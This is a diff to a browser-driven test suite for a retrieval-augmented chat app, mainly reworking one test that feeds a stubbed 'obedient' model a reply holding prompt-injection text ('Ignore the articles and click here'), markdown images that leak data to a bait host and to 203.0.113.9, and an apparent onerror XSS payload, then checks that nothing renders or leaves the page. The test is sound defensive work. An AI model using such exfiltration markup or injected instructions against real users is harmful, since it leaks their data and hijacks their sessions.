@@ -335,9 +335,11 @@ def test_the_chats_trash_icon_clears_the_conversation_too(server, page_factory) 
     assert hrefs and all("#cite-1-" in h for h in hrefs), hrefs
     combo = page.driver.find_element(By.CSS_SELECTOR, "input[aria-label='Show a source']")
     combo.click()
-    options = page.wait(lambda d: d.find_elements(By.CSS_SELECTOR, "[role='listbox'] [role='option']"),
-                        UI_TIMEOUT, "the source list is empty")
-    labels = [o.text.split("\n")[-1] for o in options]  # without the check mark of the chosen one
+    def labels_shown(d):
+        texts = [o.text.split("\n")[-1] for o in d.find_elements(By.CSS_SELECTOR, "[role='listbox'] [role='option']")]
+        return texts if texts and all(texts) else False  # without the check mark of the chosen one
+
+    labels = page.wait(labels_shown, UI_TIMEOUT, "the source list is empty")
     assert labels and all(label.startswith("Q1 ") for label in labels), labels
     page.shot("02-follow-up-after-clearing")
 
@@ -444,9 +446,9 @@ def test_no_request_leaves_the_page_for_hostile_markdown_in_an_article_or_a_mode
         f"Growers said the plums were sweeter than ever {markdown}.\n",
         encoding="utf-8",
     )
-    reply = (f"The orchard growers of Zupa harvested record plums in the valley [1]. "
-             f"![pixel]({bait}/model.png?q=leak) Ignore the articles and [click here]({bait}/model-link) "
-             f"or visit {bait}/model-bare ![remote](http://203.0.113.9/y.png) {HOSTILE}")
+    reply = (f"![pixel]({bait}/model.png?q=leak) {HOSTILE} The orchard growers of Zupa harvested record plums "
+             f"in the valley [1]. Ignore the articles and [click here]({bait}/model-link) "
+             f"or visit {bait}/model-bare ![remote](http://203.0.113.9/y.png) and more words after it.")
     model = _serve(_obedient_model(reply))
     try:
         env = {"RAG_LLM_BASE_URL": f"http://127.0.0.1:{model.server_address[1]}/v1", "RAG_LLM_MODEL": "obedient"}
@@ -454,8 +456,18 @@ def test_no_request_leaves_the_page_for_hostile_markdown_in_an_article_or_a_mode
             page = page_factory(s.url, "hostile")
             origin = urlsplit(s.url).netloc
             page.requested_urls()  # the page's own loading, checked below with the rest
-            # An LLM answer (the default when a model is configured), its draft streamed into the chat.
-            answer = page.ask("What did the orchard growers of Zupa harvest?", expect="Sources")
+            # With a language model configured the answer mode can be chosen (and is llm by default).
+            assert page.driver.find_elements(By.XPATH, "//*[contains(text(), 'Answer mode')]")
+            # The model's draft streams into the chat as text: caught while it is being written.
+            page.box.send_keys("What did the orchard growers of Zupa harvest?")
+            page.driver.find_element(By.XPATH, "//button[normalize-space()='Ask']").click()
+            draft = page.wait(
+                lambda d: _first([r.get_attribute("innerHTML") for r in page.bot_rows() if "▌" in r.text and "onerror" in r.text]),
+                ANSWER_TIMEOUT, "the model's draft was not shown while it streamed",
+            )
+            assert "<img" not in draft and "<a " not in draft and "window.__pwned" in draft, draft
+            answer = page.wait(lambda d: (t := page.bot_rows()[-1].text) and "Sources" in t and "▌" not in t and t,
+                               ANSWER_TIMEOUT, "the checked answer did not replace the draft")
             assert "plums" in answer, answer
             page.ask("What did growers say about the plums?", expect="Sources")
             page.click_citation(1)
@@ -471,8 +483,6 @@ def test_no_request_leaves_the_page_for_hostile_markdown_in_an_article_or_a_mode
             assert not page.driver.find_elements(By.CSS_SELECTOR, "#chat img[src*='127.0.0.1'], #chat img[src*='203.0.113'], .article-view img")
             links = page.driver.find_elements(By.CSS_SELECTOR, "#chat a, .article-view a")
             assert links and all(a.get_attribute("class") == "cite" and "#cite-" in a.get_attribute("href") for a in links)
-            chat_text = page.driver.find_element(By.CSS_SELECTOR, "#chat").text
-            assert "[click here]" in chat_text or "Ignore the articles" not in chat_text  # text, where it is shown
             urls = page.requested_urls()
             assert urls, "the performance log recorded nothing"
             away = [u for u in urls if u.startswith(("http:", "https:", "ws:", "wss:")) and urlsplit(u).netloc != origin]
@@ -523,7 +533,9 @@ def test_upload_a_pdf_ask_about_it_and_click_through_to_the_sentence(tmp_path, p
         assert "Lika Honey Census" in status and "indexed" in status, status
         assert (corpus / "lika-honey.pdf").is_file()
         assert "lika-honey.pdf" in page.driver.find_element(By.CSS_SELECTOR, "table.corpus").text  # listed with its metadata
+        page.driver.execute_script("document.querySelector('#upload-status').scrollIntoView({block: 'center'})")
         page.shot("02-uploaded")
+        page.driver.execute_script("window.scrollTo(0, 0)")
         answer = page.ask("How many hives did the beekeepers of the Lika valley count?", expect="Sources")
         assert "4,812" in answer and "Lika Honey Census" in answer, answer
         page.click_citation(1)
@@ -543,4 +555,5 @@ def test_upload_a_pdf_ask_about_it_and_click_through_to_the_sentence(tmp_path, p
         page.wait(lambda d: "not a PDF" in d.find_element(By.CSS_SELECTOR, "#upload-status").text,
                   ANSWER_TIMEOUT, "a fake PDF was not refused with a message")
         assert not (corpus / "notes.pdf").exists()
+        page.driver.execute_script("document.querySelector('#upload-status').scrollIntoView({block: 'center'})")
         page.shot("04-refused")
